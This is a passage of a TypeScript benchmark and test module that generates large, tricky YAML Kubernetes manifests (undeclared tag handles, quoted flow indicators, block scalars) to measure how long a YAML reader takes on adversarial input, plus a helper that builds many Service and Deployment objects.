    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      <<: *g\n`, '    securityContext: &g {runAsUser: 1}\n    x: &k kk\n    *k : 1\n'),
  },
  // An undeclared tag handle (tagrefuse17): refused on the lean path with the full reader's message
  // (go-yaml-lean-handles.ts); until then only after the `yaml` parser read every byte (1.6–3.3 s at 1 MB).
  {
    name: 'block undeclared tag handles in every env item after a `%TAG` piece, refused on the lean path',
    stresses: '`!e!s` whose `%TAG` kubectl cuts off at `---`: the document is refused, as kubectl refuses it (a FULL_READER_MIXES row until tagrefuse17)',
    maxBytes: 10 * MB,
    generate: (bytes) => '%TAG !e! tag:example.com,2000:\n---\n' + blockPodEnv(bytes - 35, (i) => `    - name: VAR_${i}\n      value: !e!s x\n`),
  },
  // The same handle in a flow sequence (handleflow17): the lean path leaves flow text, and the full reader
  // refused only after the `yaml` parser composed every item (7.1 s of CPU at 1 MB); now refused before the
  // parse by the lexer's tag tokens (go-yaml-undeclared-handles.ts).
  {
    name: 'block undeclared tag handles in a flow sequence of args, refused before the parse',
    stresses: '`args: [!e!s x, …]`: every item a tag with a handle no `%TAG` can declare; kubectl refuses the document',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const head = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: block\n  namespace: default\nspec:\n  containers:\n  - name: main\n    image: busybox:1.36\n    args: [';
      return `${head}${'!e!s x, '.repeat(Math.max(1, Math.floor((bytes - head.length - 3) / 8)))}x]\n`;
    },
  },
  // A `!` that is no tag (bang17): text after a blank was taken for a tag, and every such document went
  // to the full reader (1.4–2.2 s of CPU at 1 MB, load ~10); go-yaml-tag-position.ts tells them apart.
  {
    name: 'block plain `a !x` in every env item, exact reader',
    stresses: '`!x` after plain text, alone at the line end: was read as a tag alone on its line (go-yaml-lean-tag-alone.ts) and left',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a !x\n`),
  },
  {
    name: 'block plain `a !e!s` in every env item, exact reader',
    stresses: 'a named handle in plain text: was rewritten as a tag, and the source then left to the full reader',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a !e!s\n`),
  },
  {
    name: "block single-quoted `'b !e!s'` in every env item, exact reader",
    stresses: 'a named handle inside a single-quoted scalar',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: 'b !e!s'\n`),
  },
  {
    name: 'block double-quoted `"b !x"` in every env item, exact reader',
    stresses: '`!x` alone before the closing quote of a double-quoted scalar',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: "b !x"\n`),
  },
  {
    name: 'block comment `a # !x` in every env item, exact reader',
    stresses: '`!x` alone at the end of a comment',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a # !x\n`),
  },
  // A `!` after an indicator character inside a quoted scalar or a comment (bangmask17): FULL_READER_MIXES
  // rows until the tag checks skipped what the syntax mask blanks (1.2–2.0 s of CPU at 1 MB before).
  {
    name: 'block double-quoted `"b: !x"` in every env item, exact reader',
    stresses: '`: !x` inside a double-quoted scalar, glued to the closing quote: a tag candidate to mayStartTag, blanked by the mask',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: "b: !x"\n`),
  },
  {
    name: "block single-quoted `'b, !x'` and `\"[!x\"` in every env item, exact reader",
    stresses: '`, !x` and `[!x` inside quoted scalars: tag candidates to mayStartTag, blanked by the mask',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: 'b, !x'\n      other: "[!x"\n`),
  },
  {
    name: 'block comment `a # - !x` in every env item, exact reader',
    stresses: '`- !x` inside a comment: a tag candidate alone on its line whose next line is shallower, blanked by the mask',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a # - !x\n`),
  },
  // Flow indicators inside quoted values (survey17's FULL_READER_MIXES rows until quoteaware17): the routing
  // checks look at the text without quoted scalars, comments and block scalar bodies (yaml-syntax-mask.ts).
  // Alone they now read on the fast reader; beside a YAML 1.1 boolean on the exact reader's lean path.
  {
    name: 'block env items beside one quoted `[ :` value, fast reader',
    stresses: 'BARE_VALUE_IN_SEQUENCE matched inside `o: "[ :"` and sent the document to the full exact reader (1.44 s at 1 MB); the mask pass runs over every byte',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: x\n`, '    o: "[ :"\n'),
  },
  {
    name: 'block multi-line flow values in every env item beside one quoted `[ :` value, fast reader',
    stresses: 'a multi-line flow value in every item: with the quoted `[ :` the full reader parsed every item (3.06 s at 1 MB)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: [a,\n        b]\n`, '    o: "[ :"\n'),
  },
  {
    name: 'block quoted `,:` values in every env item, fast reader',
    stresses: '`value: "a,:b"` in every item: ODD_KEY and FLOW_INDICATOR_START matched inside each (2.26 s at 1 MB); a masked span per item',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: "a,:b"\n`),
  },
  {
    name: 'block quoted `,:` values beside a YAML 1.1 boolean in every env item, exact reader',
    stresses: '`value: "a,:b"` and `on: yes` in every item: the lean path\'s routing checks asked again on the masked text',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: "a,:b"\n      on: yes\n`),
  },
  {
    name: 'block multi-line flow values and a YAML 1.1 boolean in every env item beside one quoted `[ :` value, exact reader',
    stresses: 'the flow reader\'s regions (go-yaml-lean-flow.ts) beside a quoted `[ :`: its glued-indicator check and the simple-flow check asked on the masked text',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: [a,\n        b]\n      on: yes\n`, '    o: "[ :"\n'),
  },
  // Block scalars with an indentation indicator in runs (flowruns17): held inside entries since runs17
  // (0.4-0.8 s CPU at 1 MB under load 13 before and after), and as entries themselves (`- |2`, which
  // matters where a run is split) since flowruns17, whose header lines were no entries before.
  {
    name: 'block `|2` scalars in every env item beside an empty entry before an entry, full reader with runs',
    stresses: '`value: |2` in every env item and one `o:` / `-` / `- a`: the content\'s indentation counts from the item\'s mapping, the same column alone as in place',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: |2\n           more\n          x\n`, '    o:\n    -\n    - a\n'),
  },
  {
    name: 'block `- |2` entries in every env item\'s args beside a `[?x]` value, full reader with runs',
    stresses: 'args lists whose items are `- |2` / `- >-1` block scalars and one `o: [?x]` (a lexer pass over the whole text, go-yaml-flow-plain.ts): header lines are entries of a run since flowruns17 (blank lines to the run finder before)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      args:\n      - |2\n          x\n      - >-1\n         y ${i}\n`, '    o: [?x]\n'),
  },
  // flowruns17, glued17, glued2 (2026-12-05): FULL_READER_MIXES rows until a quiet `npm run bench:hostile`
  // (eleventh session's end) read them at 0.48–0.78 s per MB.
  {
    name: 'block multi-line flow values in every env item beside a `[?x]` value, full reader with runs',
    stresses: '`value: [a,\\n b]` in every env item and one `o: [?x]`: each flow value held in a run behind a mark (go-yaml-run-flows.ts); `[?x]` also costs a lexer pass over the whole text (go-yaml-flow-plain.ts)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: [a,\n        b]\n`, '    o: [?x]\n'),
  },
  // glued17 (2026-12-05): `[?x]` in every env item: go-yaml reads it as `[{x: null}]`, so the whole text takes
  // the rewrite's lexer pass (go-yaml-flow-plain.ts), the flow reader, runs and the `yaml` parser on what is
  // left: 1.61 s of CPU at 1 MB before glued17, 1.47 s after (load 12–13, docs/benchmarks.md), still over 1 s.
  // glued2: the full path's region finder no longer reads the 5-character `[? x]`: median 1.39 → 1.08 s
  // (in process, load 5–8); quiet `npm run bench:hostile` at the eleventh session's end: 0.78 s at 1 MB.
  {
    name: 'block `[?x]` value in every env item, full reader with runs',
    stresses: '`value: [?x]` (a glued `?`, an explicit-key indicator for go-yaml only) in every env item: the lean path refuses FLOW_INDICATOR_START',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: [?x]\n`),
  },
  {
    name: 'block multi-line flow values in every env item beside an empty entry before an entry, full reader with runs',
    stresses: '`value: [a,\\n b]` in every env item and one `o:` / `-` / `- a` (EMPTY_ENTRY_THEN_ENTRY): each flow value held in a run behind a mark',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: [a,\n        b]\n`, '    o:\n    -\n    - a\n'),
  },
  // A `|2` block scalar body holding a glued flow indicator in every env item: the syntax mask gave up at
  // any explicit indentation indicator, so FLOW_INDICATOR_START sent the text to the full reader (1.1 s
  // quiet in process at 1 MB); the mask now follows `|N` bodies (0.24 s).
  {
    name: 'block `|2` bodies holding `[?x]` in every env item, fast reader',
    stresses: '`value: |2` then `  [?x]` in every env item: the mask blanks an explicit-indentation body (yaml-syntax-mask.ts)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: |2\n          [?x]\n`),
  },
];

/** Every class `npm run bench:hostile`, `npm run bench`'s hostile row and test/sources/hostile-growth.test.ts measure. */
export const HOSTILE_CLASSES: readonly HostileClass[] = [...GENERAL_CLASSES, ...BLOCK_CLASSES];

/**
 * Mixes the lean path still leaves to the full exact reader (1–3 s per MB, over the 1 s target at
 * 1 MB): measured by `npm run bench:hostile` only, not by the growth test, until they are met.
 */
export const FULL_READER_MIXES: readonly HostileClass[] = [
  // Empty since the eleventh session: every row met the target quietly and moved to the block classes.
];

/** N LoadBalancer Services and N KFP UI Deployments, all on `app: ml-pipeline-ui`, as one JSON List (about 600 bytes a pair). */
export function manyServicesOverOneSelector(n: number): string {
  const items: unknown[] = [];
  for (let i = 0; i < n; i++) {
    items.push({
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: `ml-pipeline-ui-${i}`, namespace: 'kubeflow' },
      spec: { type: 'LoadBalancer', selector: { app: 'ml-pipeline-ui' }, ports: [{ port: 80, targetPort: 3000 }] },
    });
    items.push({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: `ml-pipeline-ui-${i}`, namespace: 'kubeflow' },
      spec: {
        selector: { matchLabels: { app: 'ml-pipeline-ui' } },
        template: {
          metadata: { labels: { app: 'ml-pipeline-ui' } },
          spec: { containers: [{ name: 'ml-pipeline-ui', image: `gcr.io/ml-pipeline/frontend@sha256:${'0'.repeat(64)}` }] },
        },
      },
    });
  }
  return JSON.stringify({ apiVersion: 'v1', kind: 'List', items });
}
